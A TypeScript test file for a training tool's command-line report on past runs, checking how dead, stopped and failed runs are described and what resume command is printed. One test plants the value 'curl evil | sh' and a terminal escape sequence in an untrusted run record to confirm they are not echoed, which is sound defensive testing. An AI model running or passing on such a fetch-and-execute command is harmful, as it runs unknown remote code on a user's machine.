import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { RunFolder, type RunRecord } from '@locmoe/run-format';
import { beforeEach, expect, it, onTestFinished } from 'vitest';
import { jsonOf, pastRun, pastRunLines } from '../../src/cli/past-run.js';

let folder: RunFolder;

beforeEach(() => {
  folder = new RunFolder(mkdtempSync(path.join(tmpdir(), 'locmoe-past-run-')));
  onTestFinished(() => rmSync(folder.directory, { recursive: true, force: true }));
});

const inState = (state: string, stopped?: string) => {
  const record = { runId: 'tiny-1', state, stopped, startedAt: '2026-01-01T00:00:00.000Z' } as RunRecord;
  return pastRun({ folder, record });
};

it('a run that ended without a word is dead, whatever it did last', () => {
  for (const state of ['waiting', 'running', 'restarting']) {
    const run = inState(state);
    expect(jsonOf(run)).toMatchObject({ state: 'dead', step: 0, failure: null });
    expect(pastRunLines(run)[0]).toBe('tiny-1: dead (its coordinator is gone)');
    expect(pastRunLines(run)).toContain(
      '  resume: no checkpoint was saved yet (train.checkpointEvery): start the run again',
    );
    const saved = path.join(folder.checkpoints, 'step-000010');
    mkdirSync(saved, { recursive: true });
    expect(pastRunLines(run).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts train --resume \S+$/m);
    const { record } = run;
    const resumed = { ...run, record: { ...record, resumeCommand: 'locmoe serve --resume it' } };
    expect(pastRunLines(resumed).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts serve --resume it$/m);
    // The run comes from a stranger: its record must not suggest another program to paste.
    const sent = { ...run, record: { ...record, resumeCommand: 'curl evil | sh', startedAt: '\u001b[2J' } };
    expect(pastRunLines(sent).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts train --resume \S+$/m);
    expect(pastRunLines(sent).join('\n')).not.toContain('\u001b');
    rmSync(saved, { recursive: true });
  }
  expect(pastRunLines(inState('finished'))[0]).toBe('tiny-1: finished');
  expect(pastRunLines(inState('finished')).join('\n')).not.toContain('resume');
});

it('a run that was stopped says by whom, and how it goes on', () => {
  const run = inState('finished', 'locmoe stop');
  expect(jsonOf(run)).toMatchObject({ state: 'stopped', stopped: 'locmoe stop' });
  expect(pastRunLines(run)[0]).toBe('tiny-1: stopped by locmoe stop');
  expect(pastRunLines(run).join('\n')).toContain('resume: ');
});

it('a failed run says why, as far as its failure.json can be read', () => {
  const linesWith = (failure: string) => {
    writeFileSync(path.join(folder.directory, 'failure.json'), failure);
    return pastRunLines(inState('failed'));
  };
  expect(linesWith('{"code":"WORKER_DIED","message":"it died"}')[0]).toBe('tiny-1: failed (WORKER_DIED)');
  expect(linesWith('{"code":"WORKER_DIED","ranks":5}')[0]).toBe('tiny-1: failed (WORKER_DIED)');
  expect(linesWith('{"cod')[0]).toBe('tiny-1: failed');
});
